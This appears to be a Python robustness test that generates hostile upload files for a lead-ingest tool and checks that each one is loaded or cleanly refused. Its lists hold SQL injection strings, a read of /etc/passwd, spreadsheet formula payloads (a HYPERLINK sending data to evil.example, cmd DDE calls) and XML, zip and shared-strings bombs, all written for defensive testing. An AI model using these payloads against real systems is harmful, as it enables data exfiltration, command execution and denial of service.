"""The hostile input corpus (issue 8): files a careless or malicious upload could hold.

    python tests/hostile/corpus.py [--out DIR]

Writes every file of the corpus (into a temp folder, or ``--out``), ingests each with the real
command line (``python -m funnel ingest FILE --db STORE --json``), and checks the answer is
clear: either loaded, with read = loaded + rejected + duplicate, or refused with exit code 1 and
a message naming the file; never a traceback, never a crash, and after a refusal the store's
counts and raw-uploads folder are as they were. Prints one line per file and
``hostile corpus: files N x clear answers M``.

The files are generated, not stored, so the repository stays small; ``tests/test_hostile.py``
runs the same corpus in-process.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))
HEADER = "id,Lead Source,Created Date,Stage,Email,Notes"
ROWS = [
    "1,Referral,2026-01-05,Contacted,ann@example.com,first",
    "2,Web,2026-01-06,Qualified,bob@example.com,second",
    "3,Cold call,2026-01-07,Closed Won,cy@example.com,third",
]
SQL = [
    "'); DROP TABLE leads; --",
    'x"; DROP TABLE uploads; --',
    "1; DELETE FROM leads WHERE 1=1",
    "Robert'); DROP TABLE students;--",
    "' OR '1'='1",
    "$1",
    "?",
    "read_csv('/etc/passwd')",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MB = 1024 * 1024


@dataclass
class Case:
    """One corpus file: how to write it, and whether Funnel should load or refuse it."""

    name: str
    what: str
    expect: str  # "loaded" or "refused"
    write: Callable[[Path], None]
    env: dict[str, str] = field(default_factory=dict)
    options: dict = field(default_factory=dict)  # IngestOptions keyword arguments
    cli: list[str] = field(default_factory=list)  # the same options for the command line
    rows: int | None = None  # records in the file, when loaded: rows read must equal it


def _text(data: str, encoding: str = "utf-8", newline: str = "\n") -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data.replace("\n", newline).encode(encoding))

    return write


def _bytes(data: bytes) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


def _csv(rows: list[str], header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _xlsx(rows: list[list]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


XLSX_ROWS = [h.split(",") for h in [HEADER, *ROWS]]


def _patched_xlsx(patch: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None):
    """A valid workbook whose parts pass through ``patch(name, data)``."""

    def write(path: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(_xlsx(XLSX_ROWS)))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name in source.namelist():
                out.writestr(name, patch(name, source.read(name)))
            for name, data in (extra or {}).items():
                out.writestr(name, data)

    return write


def _sheet_patch(old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    def patch(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            assert old in data, (old, data[:400])
            return data.replace(old, new, 1)
        return data

    return patch


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE worksheet [' + "".join(entities) + "]>\n").encode()


def _xml_bomb(name: str, data: bytes) -> bytes:
    if name == "xl/worksheets/sheet1.xml":
        body = data.split(b"?>", 1)[-1] if data.startswith(b"<?xml") else data
        return _billion_laughs() + body.replace(b"<t>Referral</t>", b"<t>&lol9;</t>", 1)
    return data


def _shared_strings_bomb(name: str, data: bytes) -> bytes:
    if name == "[Content_Types].xml":
        return data.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    if name == "xl/_rels/workbook.xml.rels":
        return data.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        )
    return data


FAR_CELL = (b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
            b"</sheetData>")


def _moved_sheet(new_part: str) -> Callable[[Path], None]:
    """A workbook whose sheet (with one cell at XFD1048576) sits at ``new_part``, where only
    the workbook's own relationships say it is (issue 16: the guard read usual paths only)."""

    def patch(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return data.replace(b"</sheetData>", FAR_CELL, 1)
        if name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
            return data.replace(b"/xl/worksheets/sheet1.xml", f"/{new_part}".encode())
        return data

    def write(path: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(_xlsx(XLSX_ROWS)))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name in source.namelist():
                target = new_part if name == "xl/worksheets/sheet1.xml" else name
                out.writestr(target, patch(name, source.read(name)))

    return write


def _sst_bomb(before_tag: bytes = b"", padding: int = 0) -> bytes:
    """SST_BOMB with ``before_tag`` in front of its tag and ``padding`` spaces inside it."""
    return (b'<?xml version="1.0" encoding="UTF-8"?>' + before_tag
            + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
            + b" " * padding + b' count="4000000000" uniqueCount="4000000000">'
            b"<si><t>Web</t></si></sst>")


SST_BOMB = (
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'count="4000000000" uniqueCount="4000000000"><si><t>Web</t></si></sst>'
)


def _sparse_file(size: int, head: bytes) -> Callable[[Path], None]:
    """A file of ``size`` bytes that takes no disk (a hole after ``head``)."""

    def write(path: Path) -> None:
        with path.open("wb") as out:
            out.write(head)
            out.truncate(size)

    return write


def _junk(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _truncated_xlsx(path: Path) -> None:
    data = _xlsx(XLSX_ROWS)
    path.write_bytes(data[: len(data) // 2])


def cases() -> list[Case]:
    """The corpus, in a fixed order."""
    sql_header = ",".join(_quote(h) for h in ["id", SQL[1], "Created Date", SQL[0], "Email"])
    sql_rows = [f"{i},{_quote(v)},2026-01-05,{_quote(v)},x{i}@example.com"
                for i, v in enumerate(SQL, start=1)]
    formula_rows = [f"{i},{_quote(v)},2026-01-05,{_quote(v)},,{_quote(v)}"
                    for i, v in enumerate(FORMULAS, start=1)]
    wide_header = ",".join(["id", "Lead Source", "Created Date"] + [f"c{i}" for i in range(997)])
    wide_row = ",".join(["1", "Web", "2026-01-05"] + [str(i) for i in range(997)])
    big_cell = "x" * (10 * MB)
    mixed = (HEADER + "\r\n" + ROWS[0] + "\n" + ROWS[1] + "\r\n" + ROWS[2] + "\n").encode()
    xlsx_data = _xlsx(XLSX_ROWS)
    return [
        Case("sql_in_headers_and_values.csv", "SQL in header names and in cells", "loaded",
             _text(_csv(sql_rows, sql_header)), options={"mapping": {"channel": SQL[1]}},
             cli=["--map", f"channel={SQL[1]}"], rows=len(SQL)),
        Case("formula_cells.csv", "cells starting with = + - @ tab CR", "loaded",
             _text(_csv(formula_rows)), rows=len(FORMULAS)),
        Case("formula_cells.xlsx", "real formulas in a workbook", "loaded",
             _bytes(_xlsx([HEADER.split(","), [1, "=1+1", "2026-01-05", "=A2*2", "", "=B2"]]))),
        # SPEC 3: NUL bytes inside a text file's cells are dropped and counted
        Case("nul_bytes.csv", "NUL bytes inside cells", "loaded",
             _bytes(_csv(ROWS).encode().replace(b"first", b"fi\x00rst")), rows=len(ROWS)),
        Case("ten_mb_cell.csv", "one cell of 10 MB", "loaded",
             _text(_csv([ROWS[0], f"2,Web,2026-01-06,New,,{big_cell}"])), rows=2),
        Case("ten_mb_channel.csv", "a 10 MB value in a mapped column", "loaded",
             _text(_csv([ROWS[0], f"2,{big_cell},2026-01-06,New,,"])), rows=2),
        Case("thousand_columns.csv", "1,000 columns", "loaded",
             _text(wide_header + "\n" + wide_row + "\n"), rows=1),
        Case("mixed_line_endings.csv", "CRLF and LF line ends in one file", "loaded",
             _bytes(mixed), rows=3),
        Case("old_mac_line_endings.csv", "CR-only line ends", "loaded",
             _text(_csv(ROWS), newline="\r"), rows=3),
        Case("cr_records_quoted_crlf.csv", "CR line ends, a CRLF inside quoted cells, a short row",
             "loaded", _text('id,Created Date,"Note\r\nline 2"\r"a\r\nb",2026-01-05\r'
                             '2,2026-01-06,x\r'), rows=2),
        Case("bom_utf8.csv", "UTF-8 with a byte-order mark", "loaded",
             _text(_csv(ROWS), "utf-8-sig"), rows=3),
        Case("bom_utf16_le.csv", "UTF-16 little-endian with BOM", "loaded",
             _bytes(b"\xff\xfe" + _csv(ROWS).encode("utf-16-le")), rows=3),
        Case("bom_utf16_be.csv", "UTF-16 big-endian with BOM", "loaded",
             _bytes(b"\xfe\xff" + _csv(ROWS).encode("utf-16-be")), rows=3),
        Case("utf16_without_bom.csv", "UTF-16 without a BOM", "refused",
             _bytes(_csv(ROWS).encode("utf-16-le"))),
        Case("utf16_odd_bytes.csv", "UTF-16 BOM, then a broken code unit", "refused",
             _bytes(b"\xff\xfe" + _csv(ROWS).encode("utf-16-le") + b"\x00\xd8")),
        Case("cp1252.csv", "Windows-1252 text with euro signs and curly quotes", "loaded",
             _bytes(_csv([ROWS[0] + " \u20ac \u201cq\u201d"]).encode("cp1252")), rows=1),
        Case("header_only.csv", "a header row and no data", "refused", _text(HEADER + "\n")),
        Case("header_only.xlsx", "a workbook with a header row only", "refused",
             _bytes(_xlsx([HEADER.split(",")]))),
        Case("empty.csv", "0 bytes", "refused", _bytes(b"")),
        Case("blank_lines.csv", "only blank lines and spaces", "refused",
             _bytes(b"\n\n   \r\n\t\n")),
        Case("empty_workbook.xlsx", "a workbook with no cells", "refused", _bytes(_xlsx([]))),
        Case("xlsx_named.csv", "an XLSX workbook named .csv", "loaded", _bytes(xlsx_data),
             rows=3),
        Case("csv_named.xlsx", "a CSV file named .xlsx", "loaded", _text(_csv(ROWS)), rows=3),
        Case("binary_junk.csv", "64 KB of random bytes", "refused", _bytes(_junk(1, 65536))),
        Case("png_named.csv", "a PNG image named .csv", "refused",
             _bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _junk(2, 4000))),
        Case("old_excel.xls", "an Excel 97-2003 (OLE) file", "refused",
             _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _junk(3, 4000))),
        Case("zip_not_workbook.xlsx", "a zip archive that is no workbook", "refused",
             _zip_of({"notes.txt": b"hello"})),
        Case("truncated.xlsx", "half of a workbook", "refused", _truncated_xlsx),
        Case("xml_bomb.xlsx", "entity expansion (billion laughs) in the sheet XML", "refused",
             _patched_xlsx(_xml_bomb)),
        Case("shared_strings_bomb.xlsx", "a shared-strings table claiming 4 billion entries",
             "refused", _patched_xlsx(_shared_strings_bomb, {"xl/sharedStrings.xml": SST_BOMB})),
        Case("far_cell.xlsx", "one cell at XFD1048576 (17 billion-cell range)", "refused",
             _patched_xlsx(_sheet_patch(
                 b"</sheetData>",
                 b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                 b"</sheetData>"))),
        Case("far_cell_moved_sheet.xlsx", "the far cell in a sheet at xl/data/sheet1.xml",
             "refused", _moved_sheet("xl/data/sheet1.xml")),
        Case("far_cell_sheet_without_xml.xlsx", "the far cell in a sheet part without .xml",
             "refused", _moved_sheet("xl/worksheets/sheet1")),
        Case("sst_bomb_after_comment.xlsx", "the 4-billion-string table after a 5 KB comment",
             "refused", _patched_xlsx(_shared_strings_bomb, {"xl/sharedStrings.xml": _sst_bomb(
                 b"<!--" + b"x" * 5000 + b"-->")})),
        Case("sst_bomb_padded.xlsx", "the 4-billion-string tag padded with 5,000 spaces",
             "refused", _patched_xlsx(_shared_strings_bomb,
                                      {"xl/sharedStrings.xml": _sst_bomb(padding=5000)})),
        Case("zip_bomb.xlsx", "80 MB of spaces compressed into a few KB", "refused",
             _patched_xlsx(_sheet_patch(b"<sheetData>", b"<sheetData>" + b" " * (80 * MB)))),
        Case("over_upload_cap.csv", "210 MB (a sparse file: over the default 200 MB cap)",
             "refused", _sparse_file(210 * MB, (HEADER + "\n").encode())),
        Case("over_lowered_cap.csv", "2 MB with FUNNEL_MAX_UPLOAD_MB=1", "refused",
             _text(_csv(ROWS * 20000)), env={"FUNNEL_MAX_UPLOAD_MB": "1"}),
        Case("unterminated_quote.csv", "a quote opened and never closed", "refused",
             _text(_csv(['1,"Web,2026-01-05,New,,x', ROWS[1]]))),
        # no column is recognised and no row can be loaded: refused, saying what to map (SPEC 3)
        Case("only_delimiters.csv", "rows of empty cells", "refused", _text(",,,\n,,,\n,,,\n")),
        Case("ragged_rows.csv", "rows with too many and too few cells", "loaded",
             _text(_csv([ROWS[0] + ",extra,cells", "2,Web", ROWS[2]])), rows=3),
        Case("duplicate_headers.csv", "the same header five times", "loaded",
             _text("id,Created Date,id,id,id\n1,2026-01-05,2,3,4\n")),
        Case("long_header.csv", "a header name of 100,000 characters", "loaded",
             _text(f"id,Created Date,{'h' * 100_000}\n1,2026-01-05,x\n")),
        Case("terminal_escapes.csv", "ANSI escape sequences in cells", "loaded",
             _text(_csv(["1,\x1b[31mRed\x1b[0m,2026-01-05,\x1b]0;title\x07,,"]))),
        Case("directory.csv", "a folder, not a file", "refused", lambda p: p.mkdir()),
    ]


def _zip_of(members: dict[str, bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as out:
            for name, data in members.items():
                out.writestr(name, data)

    return write


def write_corpus(folder: Path) -> list[tuple[Case, Path]]:
    """Write every corpus file into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for case in cases():
        path = folder / case.name
        case.write(path)
        out.append((case, path))
    return out


# ---------------------------------------------------------------------------- command line run


def _store_state(db: Path) -> tuple:
    """The store's counts and the names in its raw-uploads folder."""
    from funnel.store import connection as store
    from funnel.store import raw_uploads

    con = store.connect(db)
    try:
        counts = tuple(
            con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
            for t in ("uploads", "leads", "lead_events", "rejected_rows")
        )
    finally:
        con.close()
    root = raw_uploads.folder(db)
    files = sorted(p.name for p in root.iterdir()) if root.exists() else []
    return counts, [f for f in files if f not in ("manifest.jsonl", ".gitignore")]


def run_cli(case: Case, path: Path, db: Path) -> tuple[bool, str, float]:
    """Ingest one corpus file with the command line: (clear answer?, what happened, peak MB)."""
    env = {k: v for k, v in os.environ.items() if k not in ("FUNNEL_PII_KEY", "FUNNEL_DB")}
    env.update(case.env)
    env["PYTHONPATH"] = str(ROOT)
    before = _store_state(db)
    command = [sys.executable, "-m", "funnel", "ingest", str(path), "--db", str(db), "--json",
               *case.cli]
    code, stdout, stderr, peak_mb, seconds = run_measured(command, env)
    out, err = stdout.decode(errors="replace"), stderr.decode(errors="replace")
    if "Traceback" in err or code not in (0, 1):
        return False, f"exit {code}: {err.strip()[-400:]}", peak_mb
    try:
        answer = json.loads(out.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return False, f"no JSON answer: {out[-300:]} {err[-300:]}", peak_mb
    if "error" in answer:
        clear = (
            code == 1
            and answer.get("file") == str(path)
            and bool(answer["error"].strip())
            and _store_state(db) == before
        )
        what = f"refused: {answer['error'][:150]}"
        ok = clear and case.expect == "refused"
    else:
        adds_up = answer["read"] == answer["loaded"] + answer["rejected"] + answer["duplicate"]
        adds_up = adds_up and case.rows in (None, answer["read"])
        what = (f"loaded: read {answer['read']} = {answer['loaded']} + {answer['rejected']} "
                f"rejected + {answer['duplicate']} duplicate")
        ok = code == 0 and adds_up and case.expect == "loaded"
    return ok, f"{what} ({seconds:.1f} s, peak {peak_mb:,.0f} MB)", peak_mb


def run_measured(command: list[str], env: dict[str, str]) -> tuple[int, bytes, bytes, float, float]:
    """Run a process with at most 3 GB of address space (no corpus file may take the machine
    down): (exit code, stdout, stderr, its own peak resident MB, seconds)."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.monotonic()
        proc = subprocess.Popen(command, cwd=ROOT, env=env, stdout=out, stderr=err,
                                preexec_fn=_limit_memory)
        _, status, usage = os.wait4(proc.pid, 0)
        proc.returncode = os.waitstatus_to_exitcode(status)
        seconds = time.monotonic() - started
        out.seek(0)
        err.seek(0)
        return proc.returncode, out.read(), err.read(), usage.ru_maxrss / 1024, seconds


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="write the corpus here (default: a temp folder)")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="funnel-hostile-") as tmp:
        folder = args.out or Path(tmp) / "corpus"
        db = Path(tmp) / "store" / "hostile.duckdb"
        corpus = write_corpus(folder)
        clear = 0
        for case, path in corpus:
            ok, what, _ = run_cli(case, path, db)
            clear += ok
            print(f"{'ok  ' if ok else 'FAIL'} {case.name:32} {case.what}: {what}", flush=True)
    print(f"hostile corpus: files {len(corpus)} x clear answers {clear}")
    return 0 if clear == len(corpus) else 1


if __name__ == "__main__":
    sys.exit(main())
